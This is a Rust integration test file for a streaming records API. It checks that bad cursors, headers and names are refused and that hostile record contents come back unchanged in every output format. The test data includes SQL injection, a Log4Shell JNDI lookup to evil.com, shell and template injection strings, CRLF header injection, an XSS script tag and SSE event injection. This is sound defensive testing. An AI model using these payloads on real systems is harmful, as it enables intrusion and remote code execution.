//! Records that try to become something else where they are shown: each is kept byte for byte, in every format.
//! And streams that are asked for in the wrong way.

use serde_json::Value;
use serde_json::json;

use crate::bad_inputs::input::Input;
use crate::bad_inputs::input::each;
use crate::bad_inputs::input::get;
use crate::bad_inputs::input::post;
use crate::bad_inputs::stage::Stage;
use crate::bad_inputs::table::Row;
use crate::bad_inputs::table::row;
use crate::bad_inputs::table::run;
use crate::bad_inputs::table::tally;
use crate::bad_inputs::told::Answer::Refused;
use crate::bad_inputs::told::Answer::Says;
use crate::bad_inputs::told::Answer::Taken;
use crate::harness::Backend;
use crate::harness::on_each_backend;
use crate::harness::record::Record;
use crate::harness::topic::Topic;

on_each_backend!(every_line_about_streams_gets_its_answer, whatever_is_in_a_record_is_one_record_in_every_format);

const ORDERS: &str = "/v1/topics/orders/records";
const MEMBER: &str = "/v1/groups/g/members/m/records?topic=orders";

fn events(target: &str) -> Input {
    get(target).with("Accept: text/event-stream")
}

/// A stream that goes on behind this id.
fn behind(id: &str) -> Input {
    events(ORDERS).with(format!("Last-Event-ID: {id}"))
}

pub(crate) const ROWS: &[Row] = &[
    row(
        &[64],
        "ids that were never given out",
        |_| {
            each(
                [
                    "",
                    "0",
                    "42",
                    "-1",
                    "-9223372036854775808",
                    "9223372036854775808",
                    "null",
                    "undefined",
                    "a b",
                    "1,2,3",
                    "*",
                    "\t",
                    "'; DROP TABLE batch;--",
                    &"A".repeat(2_000),
                    &"A".repeat(8_000),
                ],
                behind,
            )
        },
        Refused(400, "invalid_cursor"),
    ),
    row(
        &[64],
        "an id of another topic",
        |stage| {
            vec![
                behind(stage.kept("of another")),
                events(&format!("{ORDERS}?last_event_id={}", stage.kept("of another"))),
                events(MEMBER).with(format!("Last-Event-ID: {}", stage.kept("own"))),
            ]
        },
        Refused(400, "invalid_cursor"),
    ),
    row(
        &[64],
        "an id with a zero in it",
        |stage| vec![behind("a\0b"), behind(&format!("{}\0", stage.kept("own")))],
        Refused(400, "invalid_parameter"),
    ),
    row(
        &[64],
        "an id of a mebibyte",
        |_| vec![behind(&"A".repeat(1 << 20)), behind(&"A".repeat(9 << 10))],
        Refused(431, "headers_too_large"),
    ),
    row(
        &[65],
        "a stream for those who take none",
        |_| {
            let refused = [
                "text/html",
                "image/*",
                "text/*",
                "text/event-stream;q=0",
                "application/json;q=0, text/event-stream;q=0",
                "nonsense",
            ];
            each(refused, |accept| get(ORDERS).with(format!("Accept: {accept}")))
                .into_iter()
                .chain(each(["text/html", "application/json", "*/*", "text/html, */*;q=0.8"], |accept| {
                    get(MEMBER).with(format!("Accept: {accept}"))
                }))
                .chain([get(MEMBER), get("/v1/groups/g/records?topic=orders")])
                .collect()
        },
        Refused(406, "not_acceptable"),
    ),
    row(
        &[65],
        "formats that there are not",
        |_| each(["xml", "SSE", "html", "json,sse", "", "sse%00"], |format| get(format!("{ORDERS}?format={format}"))),
        Refused(400, "invalid_parameter"),
    ),
    row(
        &[66],
        "two ids",
        |stage| {
            let own = stage.kept("own");
            vec![
                events(&format!("{ORDERS}?last_event_id={own}&last_event_id={own}")),
                events(&format!("{ORDERS}?last_event_id={own}&last%5Fevent_id={own}")),
                behind(own).with(format!("Last-Event-ID: {own}")),
                events(MEMBER).with(format!("Last-Event-ID: {own}")).with(format!("Last-Event-ID: {own}")),
            ]
        },
        Refused(400, "invalid_parameter"),
    ),
    row(
        &[65, 66],
        "parameters of finite answers",
        |_| {
            each(["max_records=1", "max_bytes=1", "wait_ms=1", "lag=true", "follow=true"], |more| {
                events(&format!("{ORDERS}?{more}"))
            })
        },
        Refused(400, "invalid_parameter"),
    ),
    row(
        &[67],
        "ends of lines in names",
        |_| {
            let lines = ["a%0d%0aInjected:%20yes", "a%0aInjected:%20yes", "a%0d", "%0d%0a%0d%0a%3Cscript%3E"];
            each(lines, |name| post(format!("/v1/topics/{name}/values")).json("1"))
                .into_iter()
                .chain(each(lines, |name| get(format!("/v1/topics/{name}/records"))))
                .chain(each(lines, |name| post(format!("/v1/groups/{name}/members")).json(r#"{"topics":["orders"]}"#)))
                .collect()
        },
        Refused(400, "invalid_name"),
    ),
    row(
        &[67],
        "ends of lines in what a link repeats",
        |_| {
            vec![
                get(format!("{ORDERS}?key=%0d%0aInjected:%20yes&max_records=1")),
                get("/v1/topics?limit=1&prefix=o%0d%0aInjected:%20yes"),
                get(format!("{ORDERS}?key=%3E;%20rel=%22next%22,%20%3Chttp://evil.com%3E")),
                get("/v1").with("X-Request-Id: a, Injected: yes"),
            ]
        },
        Taken(200),
    ),
    row(
        &[67],
        "a link holds what was asked for, encoded",
        |_| vec![get("/v1/topics/orders/partitions/0/records?offset=0&max_records=1")],
        Says(200, r#""value""#),
    ),
];

async fn every_line_about_streams_gets_its_answer(backend: Backend) {
    let mut stage = Stage::set(backend).await;
    let orders = Topic::named(&stage.root, "orders");
    orders.count(0, 0..5).await;
    stage.keep("own", orders.read("max_records=1").await.cursor);
    let other = Topic::create(&stage.root, "other", 1).await;
    other.count(0, 0..5).await;
    stage.keep("of another", other.read("max_records=1").await.cursor);
    run("streams", backend, ROWS, &stage).await;
}

/// What a record holds that has to come back as it was: line numbers, what it is, and the values, as JSON texts.
type Kept = (&'static [u8], &'static str, fn() -> Vec<String>);

/// Texts as JSON, as a careful client writes them.
fn texts<const N: usize>(texts: [&str; N]) -> Vec<String> {
    texts.map(|text| json!(text).to_string()).into()
}

fn as_they_are<const N: usize>(texts: [&str; N]) -> Vec<String> {
    texts.map(str::to_owned).into()
}

pub(crate) const KEPT: &[Kept] = &[
    (&[60, 61], "an event within a value", || {
        let ends = ["\r\n", "\n", "\r", "\n\r", "\u{2028}", "\u{85}", "\u{b}"];
        let text = |end: &str| {
            format!("x{end}{end}event: control{end}data: {{\"injected\":true}}{end}{end}id: 1{end}retry: 1{end}{end}")
        };
        ends.iter()
            .map(|end| json!(text(end)).to_string())
            .chain(ends.iter().map(|end| json!({ text(end): [text(end)] }).to_string()))
            .collect()
    }),
    (&[63, 34], "characters that others trip over", || {
        texts([
            "\0",
            "\u{2028}\u{2029}",
            "\u{feff}",
            "\u{feff}data: x",
            "\u{7f}\u{80}\u{9f}",
            "\u{1b}[31m",
            "\u{202e}abc",
            "\u{fffe}\u{ffff}",
            "\u{10ffff}",
            ": comment",
            "data: x",
            "event: problem",
            "id",
            "</script><script>alert(1)</script>",
        ])
    }),
    (&[34, 36], "escapes", || {
        as_they_are([
            r#""\u0000""#,
            r#""a\u0000b""#,
            r#"{"\u0000":"\u0000"}"#,
            r#""\ud800""#,
            r#""\udc00\ud800""#,
            r#"{"\ud800":"\udfff"}"#,
            r#""\u00e9\/\b\f\n\r\t\"\\""#,
            r#""\uD83D\uDE00""#,
            r#"{"\u0061":"\u0041"}"#,
        ])
    }),
    (&[49], "names twice", || {
        as_they_are([
            r#"{"a":1,"a":2,"a":1}"#,
            r#"{"":1,"":2}"#,
            r#"{"a":{"b":1,"b":1},"a":[]}"#,
            r#"{"__proto__":null,"constructor":{},"__proto__":1}"#,
        ])
    }),
    (&[50], "numbers that no machine has", || {
        as_they_are([
            "1e400",
            "-1e-400",
            "-0",
            "-0.0",
            "0.1000000000000000055",
            "9223372036854775808",
            "18446744073709551616",
            "1234567890123456789012345678901234567890",
            "-1234567890123456789012345678901234567890",
            "1E+2",
            "1e00000002",
            "[1e400,-0,1234567890123456789012345678901234567890]",
        ])
    }),
    (&[30, 32], "statements and templates", || {
        texts([
            "'; DROP TABLE batch;--",
            "\"; DELETE FROM topics; --",
            "$1",
            "{{7*7}}",
            "${jndi:ldap://evil.com/x}",
            "%s%n%x",
            "<%= 7*7 %>",
            "$(id)",
            "`id`",
            "\\'; --",
            "%00%0d%0a",
        ])
    }),
];

async fn whatever_is_in_a_record_is_one_record_in_every_format(backend: Backend) {
    let stage = Stage::set(backend).await;
    let topic = Topic::named(&stage.root, "orders");
    let values: Vec<String> = KEPT.iter().flat_map(|(_, _, values)| values()).collect();
    for value in &values {
        topic.produce_raw(format!(r#"{{"records":[{{"value":{value}}}]}}"#)).await;
    }
    // Where any text may stand the same text stands: as key, and as name and value of headers.
    let (_, _, hostile) = KEPT[0];
    let hostile: Vec<Value> = hostile().iter().map(|text| serde_json::from_str(text).expect("JSON")).collect();
    let hostile: Vec<&str> =
        hostile.iter().filter_map(Value::as_str).chain(["a\0b", "\u{feff}", "'; DROP TABLE batch;--"]).collect();
    for text in &hostile {
        topic.produce(&json!([{ "key": text, "headers": { *text: text }, "value": 0 }])).await;
    }
    let count = values.len() + hostile.len();
    let assert_same = |records: &[Record], way: &str| {
        assert_eq!(records.len(), count, "{way}");
        for (record, value) in records.iter().zip(&values) {
            assert_eq!(record.value(), value, "{way}, at {}", record.offset);
        }
        for (record, text) in records[values.len()..].iter().zip(&hostile) {
            assert_eq!(record.key.as_deref(), Some(*text), "{way}, at {}", record.offset);
            assert_eq!(record.headers.get(*text).map(String::as_str), Some(*text), "{way}, at {}", record.offset);
        }
    };
    assert_same(&topic.read_all().await, "JSON");
    assert_same(&topic.lines("format=ndjson&follow=true").await.records(count).await, "NDJSON");
    assert_same(&topic.events("").await.records(count).await, "SSE");
    let bare = topic.try_read("format=values").await.is(200);
    assert!(bare.text().lines().take(values.len()).eq(values.iter().map(String::as_str)), "values");
    for (offset, value) in values.iter().enumerate() {
        let answer = stage.root.get(&topic.path(&format!("/partitions/0/records/{offset}/value"))).send().await;
        assert_eq!(answer.is(200).text(), value, "the bare value at {offset}");
    }
    // Bytes are none of this, and come back as they were.
    for body in [b"\xff\xfe\0\r\n\r\nevent: x\r\n".to_vec(), (0..=255).collect(), vec![0xc0, 0xaf]] {
        let call = stage.root.post(&topic.path("/values")).header("content-type", "application/octet-stream");
        let offset = call.body(body.clone()).send().await.is(201).json()["offset"].clone();
        let path = topic.path(&format!("/partitions/0/records/{offset}/value"));
        assert_eq!(stage.root.get(&path).send().await.is(200).body, body);
    }
    assert!(!stage.gateway.stderr().contains("panicked"));
    tally("records", backend, KEPT.len(), count);
}
